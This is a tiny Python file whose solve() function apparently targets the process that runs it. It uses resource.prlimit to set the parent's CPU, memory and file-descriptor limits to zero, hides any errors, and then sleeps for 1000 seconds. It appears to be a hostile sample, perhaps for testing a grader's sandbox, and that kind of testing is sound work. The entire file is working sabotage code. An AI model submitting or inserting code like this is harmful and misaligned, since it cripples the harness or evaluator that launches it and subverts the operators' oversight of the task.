"""Lowers the limits of its parent."""

import os
import resource
import time

def solve(x):
    for which in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NOFILE):
        try:
            resource.prlimit(os.getppid(), which, (0, 0))
        except (OSError, ValueError):
            pass
    time.sleep(1000)
